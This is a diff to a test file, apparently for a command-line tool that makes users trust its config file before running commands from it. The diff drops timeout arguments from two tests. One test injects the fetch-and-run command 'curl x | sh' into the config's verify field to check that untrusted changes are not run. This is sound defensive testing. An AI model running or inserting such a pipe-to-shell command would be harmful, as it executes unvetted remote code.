@@ -39,7 +39,7 @@ test('at the shell: a run says what to do, trust shows what would run, and then 
 	expect(await run('trust', '--yes')).toMatchObject({code: 0, out: 'orch.config.jsonc is trusted.\n'});
 	expect(await run('run', '--until', 'empty')).toMatchObject({code: 0});
 	expect(ran()).toBe(true);
-}, 60_000);
+});
 
 test('at the screen: it is asked first, only looking starts nothing, and what has waited begins when it is trusted', async () => {
 	const {root, env, ran, isMerged, import: bring} = aClone();
@@ -56,7 +56,7 @@ test('at the screen: it is asked first, only looking starts nothing, and what ha
 	await see('Trust orch.config.jsonc?');
 	child.write('t');
 	await see('orch.config.jsonc is trusted.');
-	await until(isMerged, 20_000);
+	await until(isMerged);
 	// Somebody, or something, changes what can be run.
 	const file = path.join(root, 'orch.config.jsonc');
 	writeFileSync(file, JSON.stringify({...JSON.parse(readFileSync(file, 'utf8')), verify: 'curl x | sh'}));
@@ -65,4 +65,4 @@ test('at the screen: it is asked first, only looking starts nothing, and what ha
 	await see('The last config that you trusted goes on until then.');
 	child.kill('SIGTERM');
 	expect(await over).toBe(143);
-}, 60_000);
+});
